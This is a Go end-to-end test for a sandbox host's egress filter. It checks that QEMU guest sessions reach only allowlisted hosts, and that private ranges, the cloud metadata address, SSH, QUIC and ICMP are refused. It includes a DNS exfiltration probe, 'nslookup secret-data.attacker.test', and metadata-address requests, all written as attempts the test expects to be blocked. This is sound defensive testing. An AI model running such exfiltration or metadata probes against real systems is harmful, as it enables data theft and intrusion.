@@ -1,0 +1,209 @@
+package e2e
+
+import (
+	"bytes"
+	"context"
+	"fmt"
+	"net"
+	"net/http"
+	"net/http/httptest"
+	"os"
+	"os/exec"
+	"strings"
+	"sync"
+	"testing"
+	"time"
+
+	"github.com/miekg/dns"
+
+	"github.com/engrams/engrams/api/apiv1"
+	"github.com/engrams/engrams/client"
+	"github.com/engrams/engrams/internal/coordinator"
+)
+
+// fakeAuthority is the DNS server a host resolves guests' names with
+// (host run --egress-dns): it answers the names in addrs and counts every
+// question it is asked.
+type fakeAuthority struct {
+	addrs map[string]string // fqdn -> IPv4
+	mu    sync.Mutex
+	asked []string
+}
+
+func (a *fakeAuthority) ServeDNS(w dns.ResponseWriter, r *dns.Msg) {
+	m := new(dns.Msg)
+	m.SetReply(r)
+	m.Authoritative = true
+	for _, q := range r.Question {
+		a.mu.Lock()
+		a.asked = append(a.asked, q.Name)
+		a.mu.Unlock()
+		if ip, ok := a.addrs[q.Name]; ok && q.Qtype == dns.TypeA {
+			m.Answer = append(m.Answer, &dns.A{Hdr: dns.RR_Header{Name: q.Name, Rrtype: dns.TypeA, Class: dns.ClassINET, Ttl: 0}, A: net.ParseIP(ip)})
+		}
+	}
+	if len(m.Answer) == 0 && r.Question[0].Qtype == dns.TypeA {
+		m.Rcode = dns.RcodeNameError
+	}
+	_ = w.WriteMsg(m)
+}
+
+func (a *fakeAuthority) askedAbout(suffix string) int {
+	a.mu.Lock()
+	defer a.mu.Unlock()
+	n := 0
+	for _, q := range a.asked {
+		if strings.HasSuffix(q, suffix) {
+			n++
+		}
+	}
+	return n
+}
+
+func startAuthority(t *testing.T, addrs map[string]string) (*fakeAuthority, string) {
+	t.Helper()
+	a := &fakeAuthority{addrs: addrs}
+	pc, err := net.ListenPacket("udp", "127.0.0.1:0")
+	if err != nil {
+		t.Fatal(err)
+	}
+	srv := &dns.Server{PacketConn: pc, Handler: a}
+	go func() { _ = srv.ActivateAndServe() }()
+	t.Cleanup(func() { _ = srv.Shutdown() })
+	return a, pc.LocalAddr().String()
+}
+
+// egressRig is a coordinator and a QEMU host whose guests' names resolve
+// through auth, with one test upstream on loopback the operator allowed.
+type egressRig struct {
+	c     *client.Client
+	auth  *fakeAuthority
+	port  string // the upstream's
+	dir   string // the host's
+	probe string // netget, built
+}
+
+func startEgressRig(t *testing.T) *egressRig {
+	t.Helper()
+	upstream := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		fmt.Fprintf(w, "hello from %s%s\n", r.Host, r.URL.Path)
+	}))
+	t.Cleanup(upstream.Close)
+	_, port, _ := net.SplitHostPort(strings.TrimPrefix(upstream.URL, "http://"))
+	auth, authAddr := startAuthority(t, map[string]string{
+		"allowed.test.": "127.0.0.1", "other.test.": "127.0.0.1", "private.test.": "10.0.0.5", "meta.test.": "169.254.169.254",
+	})
+	st := openSQLite(t)
+	creds := credentials(t, st, "egress-host")
+	r := startReplica(t, st, "", coordinator.Config{HeartbeatInterval: 500 * time.Millisecond, HostLostAfter: 30 * time.Second})
+	dir := shortTempDir(t)
+	// The operator lets guests reach the test upstream's one loopback
+	// port; every other loopback and private address stays refused.
+	startHostProcess(t, r.URL, creds.HostToken, dir, "--backend", "qemu", "--egress-dns", authAddr, "--egress-allow", "127.0.0.1:"+port)
+	c := newClient(r.URL, creds.Token)
+	waitHostReady(t, c, creds.HostID)
+	t.Cleanup(func() {
+		for _, pid := range vmmPIDs(dir) {
+			_ = exec.Command("kill", "-9", fmt.Sprint(pid)).Run()
+		}
+	})
+	return &egressRig{c: c, auth: auth, port: port, dir: dir, probe: buildTestdata(t, "netget")}
+}
+
+// session creates an active session with egress and netget in /tmp.
+func (k *egressRig) session(t *testing.T, egress []string) string {
+	t.Helper()
+	ctx := context.Background()
+	s, err := k.c.Sessions().Create(ctx, apiv1.CreateSessionRequest{SessionSpec: apiv1.SessionSpec{MemoryMiB: 256, Egress: egress}}, true)
+	if err != nil || s.State != "active" {
+		t.Fatalf("create: %+v %v (host log %s)", s, err, hostLog(k.dir))
+	}
+	f, err := os.Open(k.probe)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if err := k.c.Files().Put(ctx, s.ID, "/tmp/netget", 0o755, f); err != nil {
+		t.Fatalf("upload netget: %v", err)
+	}
+	return s.ID
+}
+
+// run runs script in session id, returning its output and exit code.
+func (k *egressRig) run(t *testing.T, id, script string) (string, int) {
+	t.Helper()
+	var out, errb bytes.Buffer
+	code, err := k.c.Sessions().Exec(context.Background(), id, apiv1.ExecRequest{Argv: []string{"sh", "-c", script}, TimeoutMS: 60000}, &out, &errb)
+	if err != nil {
+		t.Fatalf("exec %q: %v", script, err)
+	}
+	return out.String() + errb.String(), code
+}
+
+// TestEgressFromQEMUGuest (issue 14): a session whose allowlist names
+// allowed.test reaches it over plain HTTP from inside a QEMU guest,
+// through the filtering resolver and the transparent proxy; a name off the
+// list, an allowed name that resolves to a private or the metadata
+// address, private ranges, the host's gateway, IPv6, SSH, QUIC and ICMP
+// all fail; an exfiltration name gets NXDOMAIN and never reaches the
+// authority; every decision is in the session's egress log. A session
+// without an allowlist has no network.
+func TestEgressFromQEMUGuest(t *testing.T) {
+	t.Parallel()
+	requireQEMU(t)
+	k := startEgressRig(t)
+	port := k.port
+	id := k.session(t, []string{"allowed.test:" + port, "private.test:" + port, "meta.test:80"})
+	if out, code := k.run(t, id, "/tmp/netget http http://allowed.test:"+port+"/hi"); code != 0 || !strings.Contains(out, "hello from allowed.test:"+port+"/hi") {
+		t.Errorf("allowed host over HTTP: exit %d, %q (host log %s)", code, out, hostLog(k.dir))
+	}
+	for _, rf := range []struct{ name, script string }{
+		{"a name off the list", "/tmp/netget http http://other.test:" + port + "/"},
+		{"an allowed name at a private address", "/tmp/netget http http://private.test:" + port + "/"},
+		{"an allowed name at the metadata address", "/tmp/netget http http://meta.test/"},
+		{"the metadata address itself", "/tmp/netget http http://169.254.169.254/"},
+		{"the test upstream by its address", "/tmp/netget http http://127.0.0.1:" + port + "/"},
+		{"the host gateway's address", "/tmp/netget http http://10.0.2.2:" + port + "/"},
+		{"10/8", "/tmp/netget http http://10.1.2.3/"},
+		{"172.16/12", "/tmp/netget http http://172.16.0.1/"},
+		{"192.168/16", "/tmp/netget http http://192.168.1.1/"},
+		{"100.64/10", "/tmp/netget http http://100.64.0.1/"},
+		{"IPv6", "/tmp/netget tcp [2001:db8::1]:443"},
+		{"SSH to an allowed name", "/tmp/netget tcp allowed.test:22"},
+		{"QUIC to an allowed address", "/tmp/netget udp 127.0.0.1:443"},
+		{"ICMP", "ping -c 1 -W 3 1.1.1.1"},
+	} {
+		if out, code := k.run(t, id, rf.script); code != 1 || strings.Contains(out, "hello from") {
+			t.Errorf("%s: exit %d, %q; want a failure", rf.name, code, out)
+		}
+	}
+	if out, _ := k.run(t, id, "nslookup secret-data.attacker.test"); !strings.Contains(out, "NXDOMAIN") && !strings.Contains(out, "can't resolve") {
+		t.Errorf("nslookup of an exfiltration name: %q, want NXDOMAIN", out)
+	}
+	if n := k.auth.askedAbout("attacker.test."); n != 0 {
+		t.Errorf("the authority was asked %d times about attacker.test", n)
+	}
+	k.waitEgressLog(t, id)
+
+	none := k.session(t, nil)
+	if out, code := k.run(t, none, "/tmp/netget http http://allowed.test:"+port+"/"); code == 0 || strings.Contains(out, "hello") {
+		t.Errorf("a session without egress reached the upstream: exit %d %q", code, out)
+	}
+}
+
+// waitEgressLog waits until session id's egress log has the allowed
+// connection (with bytes) and the refused name.
+func (k *egressRig) waitEgressLog(t *testing.T, id string) {
+	t.Helper()
+	eventually(t, 30*time.Second, "egress events reach the coordinator", func() (bool, string) {
+		l, err := k.c.Sessions().Egress(context.Background(), id, client.EgressQuery{Limit: 200})
+		if err != nil {
+			return false, err.Error()
+		}
+		var allowed, denied bool
+		for _, e := range l.Events {
+			allowed = allowed || (e.Host == "allowed.test" && e.Verdict == "allow" && e.BytesDown > 0)
+			denied = denied || (e.Host == "other.test" && e.Verdict == "deny")
+		}
+		return allowed && denied, fmt.Sprintf("%+v", l.Events)
+	})
+}
